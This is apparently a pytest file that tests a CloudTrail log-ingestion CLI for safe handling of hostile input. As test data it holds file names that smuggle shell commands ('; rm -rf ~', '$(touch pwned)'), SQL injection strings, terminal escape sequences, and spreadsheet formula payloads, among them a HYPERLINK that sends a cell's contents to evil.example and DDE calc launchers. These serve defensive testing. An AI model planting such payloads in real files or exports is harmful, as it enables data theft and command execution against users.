"""Hostile names and values: odd local paths are read and reported safely (quarantine copies stay
inside the lake), option values are bound or rejected with exit 2, terminal output cannot be
hijacked by escape sequences, and CSV exports neutralise spreadsheet formulas."""

from __future__ import annotations

import csv
import io
import json
import os
import unicodedata
from pathlib import Path

import pytest
from conftest import (
    REPO,
    ingest_cli,
    make_record,
    quarantine_list,
    query,
    run_cli,
    scalar,
    write_bytes,
    write_records,
)

from trailscan.sources import Unreadable, walk_local

ODD_NAMES = [
    "new\nline.json.gz",
    "carriage\rreturn.json.gz",
    "esc\x1b[31mred\x1b]0;pwned\x07.json.gz",
    "x" * 240 + ".json.gz",  # near NAME_MAX (255 bytes)
    unicodedata.normalize("NFD", "café-Ωμέγα-日本-🦀.json.gz"),
    "rtl-\u202ezg.nosj.json.gz",
    "-rf.json.gz",
    "--lake=evil.json.gz",
    "--help",
    "-",
    "; rm -rf ~ #.json",
    "quote'double\"back\\slash.json",
    "glob*?[x].json",
    "$(touch pwned).json",
    " leading and trailing space .json ",
    "..json",
    "...",
]


def _odd_tree(src: Path) -> tuple[dict[Path, str], dict[Path, str]]:
    """For every odd name: a good file (plus one bad record) and a corrupt file of that name."""
    good: dict[Path, str] = {}
    bad: dict[Path, str] = {}
    for i, name in enumerate(ODD_NAMES):
        record = make_record(eventName=f"Odd{i}")
        path = write_records(src / "good" / name, [record, make_record(eventTime=1)],
                             compress=True)
        good[path] = record["eventID"]
        bad[write_bytes(src / "bad" / name, b"\x1f\x8b\x08\x00corrupt")] = "gzip"
    return good, bad


def test_odd_local_names_are_read_and_reported_safely(tmp_path: Path) -> None:
    src, lake = tmp_path / "src", tmp_path / "lake"
    good, bad = _odd_tree(src)
    result = run_cli("ingest", src, "--lake", lake, "--workers", 1)
    assert result.exit_code == 0, result.stderr
    for line in result.stderr.splitlines():  # each problem on its own line, escapes visible
        assert "\x1b" not in line and "\r" not in line and "\u202e" not in line
    assert result.stderr.count("quarantined: ") == len(bad)
    assert "\\x1b[31mred" in result.stderr and "new\\nline" in result.stderr

    rows = dict(query(lake, "SELECT source_object, eventID FROM cloudtrail"))
    assert rows == {str(p): eid for p, eid in good.items()}  # exact names as provenance
    entries = quarantine_list(lake)
    by_source: dict[str, list[dict]] = {}
    for entry in entries:
        by_source.setdefault(entry["source"], []).append(entry)
    assert set(by_source) == {str(p) for p in [*good, *bad]}
    for path in bad:
        (entry,) = by_source[str(path)]
        assert "gzip" in entry["reason"]
        copy = (lake / "quarantine" / entry["run_id"] / entry["copy"]).resolve()
        assert copy.is_relative_to((lake / "quarantine").resolve())
        assert copy.read_bytes() == path.read_bytes()
    copies = list((lake / "quarantine").rglob("*"))
    assert all(p.resolve().is_relative_to(lake.resolve()) for p in copies)
    assert not (tmp_path / "pwned").exists() and not Path("pwned").exists()


def test_option_like_file_names_after_double_dash(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.chdir(tmp_path)
    names = ["-rf.json", "--lake=evil.json", "--help", "-"]
    ids = []
    for name in names:
        record = make_record()
        ids.append(record["eventID"])
        write_records(tmp_path / name, [record])
    result = run_cli("ingest", "--lake", "lake", "--workers", 1, "--json", "--", *names)
    assert result.exit_code == 0, result.stderr
    assert json.loads(result.stdout)["events_written"] == len(names)
    assert sorted(r[0] for r in query(tmp_path / "lake", "SELECT eventID FROM cloudtrail")) \
        == sorted(ids)
    assert not (tmp_path / "evil.json").exists()


def test_a_directory_that_cannot_be_listed_is_reported(tmp_path: Path) -> None:
    """Paths over PATH_MAX: the deep directory is an Unreadable entry, not silently skipped."""
    root = tmp_path / "src"
    root.mkdir()
    write_records(root / "a.json", [make_record()])
    fd = os.open(root, os.O_RDONLY)
    try:
        for _ in range(20):  # 20 x 250 bytes: deeper than PATH_MAX (4096)
            os.mkdir("d" * 250, dir_fd=fd)
            fd, old = os.open("d" * 250, os.O_RDONLY, dir_fd=fd), fd
            os.close(old)
        with os.fdopen(os.open("deep.json", os.O_WRONLY | os.O_CREAT, dir_fd=fd), "w") as f:
            f.write(json.dumps({"Records": [make_record()]}))
    finally:
        os.close(fd)
    entries = list(walk_local([root]))
    unreadable = [e for e in entries if isinstance(e, Unreadable)]
    assert unreadable and all("File name too long" in e.reason for e in unreadable)
    lake = tmp_path / "lake"
    stats = ingest_cli(root, "--lake", lake)
    assert stats["events_written"] == 1 and stats["files_quarantined"] == len(unreadable)


# --- option values ---------------------------------------------------------------------------

INJECTION = "x' OR 1=1 --"


@pytest.fixture
def small_lake(tmp_path: Path) -> Path:
    src, lake = tmp_path / "src", tmp_path / "lake"
    write_records(src / "a.json.gz", [make_record() for _ in range(5)])
    ingest_cli(src, "--lake", lake)
    return lake


@pytest.mark.parametrize("args", [
    ["ingest", "{src}", "--since", "yesterday"],
    ["ingest", "{src}", "--since", "'; DROP TABLE objects; --"],
    ["ingest", "{src}", "--since", ""],
    ["ingest", "{src}", "--until", "2024-02-30"],
    ["ingest", "{src}", "--since", "9999-12-31T23:59:59-12:00"],
    ["ingest", "{src}", "--since", "0001-01-01T00:00:00+01:00"],
    ["ingest", "{src}", "--since", "2024-01-01\x00"],
    ["ingest", "{src}", "--workers", "0"],
    ["ingest", "{src}", "--workers", "-1"],
    ["ingest", "{src}", "--max-file-bytes", "-5"],
    ["ingest", "{src}", "--max-file-bytes", "1e9"],
    ["detect", "--rule", INJECTION],
    ["detect", "--since", INJECTION],
    ["detect", "--until", ""],
    ["detect", "--until", "9999-12-31T23:59:59-12:00"],
    ["detect", "--min-severity", INJECTION],
    ["detect", "--format", INJECTION],
    ["query", "SELECT 1", "--format", "xlsx"],
    ["validate", "{src}", "--since", INJECTION],
])
def test_bad_option_values_exit_2_and_change_nothing(small_lake: Path, args: list[str]) -> None:
    src = small_lake.parent / "src"
    before = sorted(p.name for p in (small_lake / "events").rglob("*.parquet"))
    argv = [a.format(src=src) for a in args]
    if argv[0] in ("ingest", "detect", "query"):
        argv += ["--lake", str(small_lake)]
    result = run_cli(*argv)
    assert result.exit_code == 2, (argv, result.stdout, result.stderr)
    assert "Error" in result.stderr and "Traceback" not in result.stderr
    assert scalar(small_lake, "SELECT count(*) FROM cloudtrail") == 5
    assert sorted(p.name for p in (small_lake / "events").rglob("*.parquet")) == before


@pytest.mark.parametrize("option", ["--account", "--region"])
def test_filter_values_are_data_not_code(tmp_path: Path, option: str) -> None:
    src, lake = tmp_path / "src", tmp_path / "lake"
    write_records(src / "a.json.gz", [make_record() for _ in range(4)])
    stats = ingest_cli(src, "--lake", lake, option, INJECTION)
    assert stats["events_written"] == 0 and stats["events_filtered"] == 4
    stats = ingest_cli(src, "--lake", lake, option, INJECTION, option,
                       "111122223333" if option == "--account" else "us-east-1")
    assert stats["events_written"] == 4


def test_far_future_until_is_valid(small_lake: Path) -> None:
    src = small_lake.parent / "src"
    write_records(src / "b.json.gz", [make_record()])
    stats = ingest_cli(src, "--lake", small_lake, "--until", "9999-12-31",
                       "--since", "0001-01-01")
    assert stats["events_written"] == 1
    result = run_cli("detect", "--lake", small_lake, "--until", "9999-12-31", "--rule",
                     "cloudtrail_stop_logging", "--format", "json")
    assert result.exit_code == 0, result.stderr


def test_unknown_tag_selects_nothing(small_lake: Path) -> None:
    result = run_cli("detect", "--lake", small_lake, "--tag", INJECTION, "--format", "json")
    assert result.exit_code == 0 and json.loads(result.stdout) == []
    assert "0 findings from 0 rules" in result.stderr


# --- terminal and CSV output -----------------------------------------------------------------

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_export_of_query_results_neutralises_formulas(tmp_path: Path) -> None:
    src, lake = tmp_path / "src", tmp_path / "lake"
    recs = [make_record(userAgent=value, eventName=value, errorCode=value,
                        requestParameters={"bucketName": value}) for value in FORMULAS]
    write_records(src / "a.json.gz", recs)
    ingest_cli(src, "--lake", lake)
    sql = ("SELECT eventID, eventName, userAgent, errorCode, requestParameters, "
           "json_extract_string(requestParameters, '$.bucketName') AS bucket, "
           "-1 AS negative FROM cloudtrail ORDER BY eventID")
    for out in (None, tmp_path / "out.csv"):
        extra = ["--output", out] if out else []
        result = run_cli("query", sql, "--lake", lake, "--format", "csv", *extra)
        assert result.exit_code == 0, result.stderr
        rows = _csv(out.read_bytes().decode() if out else result.stdout)
        assert len(rows) == len(FORMULAS)
        by_id = {r["eventID"]: r for r in rows}
        for rec in recs:
            row = by_id[rec["eventID"]]
            for column in ("eventName", "userAgent", "errorCode", "bucket"):
                assert row[column] == "'" + rec["eventName"], (column, row[column])
            assert row["requestParameters"].startswith("{")
            assert row["negative"] == "-1"  # numbers are numbers, not formulas


def test_csv_export_of_findings_neutralises_formulas(tmp_path: Path) -> None:
    src, lake = tmp_path / "src", tmp_path / "lake"
    template = json.loads((REPO / "queries" / "cloudtrail_stop_logging" / "match.json")
                          .read_text())["Records"][0]
    recs = []
    for value in FORMULAS:
        rec = json.loads(json.dumps(template))
        rec["eventID"] = make_record()["eventID"]
        rec["userIdentity"] = {"type": "IAMUser", "arn": value, "accountId": "111122223333",
                               "userName": value}
        rec["sourceIPAddress"] = value
        rec["awsRegion"] = value
        recs.append(rec)
    write_records(src / "a.json.gz", recs)
    ingest_cli(src, "--lake", lake)
    result = run_cli("detect", "--lake", lake, "--rule", "cloudtrail_stop_logging",
                     "--format", "csv")
    assert result.exit_code == 0, result.stderr
    rows = _csv(result.stdout)
    assert sorted(r["principal"] for r in rows) == sorted("'" + v for v in FORMULAS)
    for row in rows:
        assert row["region"].startswith("'")
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_table_output_cannot_drive_the_terminal(tmp_path: Path) -> None:
    src, lake = tmp_path / "src", tmp_path / "lake"
    evil = "curl\x1b]0;owned\x07\x1b[2J\x1b[31mred\u202e"
    write_records(src / "a.json.gz", [make_record(userAgent=evil)])
    ingest_cli(src, "--lake", lake)
    result = run_cli("query", "SELECT userAgent FROM cloudtrail", "--lake", lake)
    assert result.exit_code == 0
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
    assert "\u202e" not in result.stdout
    assert "\\x1b[2J" in result.stdout
    csv_out = run_cli("query", "SELECT userAgent FROM cloudtrail", "--lake", lake,
                      "--format", "csv").stdout
    assert _csv(csv_out)[0]["userAgent"] == evil  # data formats keep the exact value


def test_duckdb_memory_is_bounded_and_the_bound_is_checked(small_lake: Path, monkeypatch) -> None:
    import trailscan

    con = trailscan.open_lake(str(small_lake))
    try:
        limit, spill = con.execute("SELECT current_setting('memory_limit'), "
                                   "current_setting('temp_directory')").fetchone()
    finally:
        con.close()
    assert limit.endswith("MiB") and float(limit.split()[0]) < 1024  # 1GB, not 80% of RAM
    assert spill != ".tmp"  # never spills into the current directory
    monkeypatch.setenv("TRAILSCAN_MEMORY_LIMIT", "1GB'; DROP TABLE x; --")
    result = run_cli("query", "SELECT 1", "--lake", small_lake)
    assert result.exit_code == 2 and "TRAILSCAN_MEMORY_LIMIT" in result.stderr
    monkeypatch.setenv("TRAILSCAN_MEMORY_LIMIT", "256MB")
    assert run_cli("query", "SELECT count(*) FROM cloudtrail", "--lake", small_lake,
                   "--format", "csv").stdout.splitlines()[1] == "5"


@pytest.mark.parametrize("option", ["--principal", "--access-key", "--ip", "--event-id"])
def test_investigate_values_are_bound(small_lake: Path, option: str) -> None:
    result = run_cli("investigate", "--lake", small_lake, option, INJECTION, "--format", "json")
    assert result.exit_code == 0, result.stderr
    found = json.loads(result.stdout)
    assert found["entity"]["value"] == INJECTION and found["counts"]["events"] == 0
    bad = run_cli("investigate", "--lake", small_lake, option, "x", "--since", INJECTION)
    assert bad.exit_code == 2 and "Error" in bad.stderr


def test_csv_export_of_an_investigation_neutralises_formulas(tmp_path: Path) -> None:
    src, lake = tmp_path / "src", tmp_path / "lake"
    recs = [make_record(userAgent=value, errorCode=value, sourceIPAddress="198.51.100.7")
            for value in FORMULAS]
    write_records(src / "a.json.gz", recs)
    ingest_cli(src, "--lake", lake)
    result = run_cli("investigate", "--lake", lake, "--ip", "198.51.100.7", "--format", "csv")
    assert result.exit_code == 0, result.stderr
    rows = _csv(result.stdout)
    assert sorted(r["user_agent"] for r in rows) == sorted("'" + v for v in FORMULAS)
    assert all(r["error"].startswith("'") for r in rows)
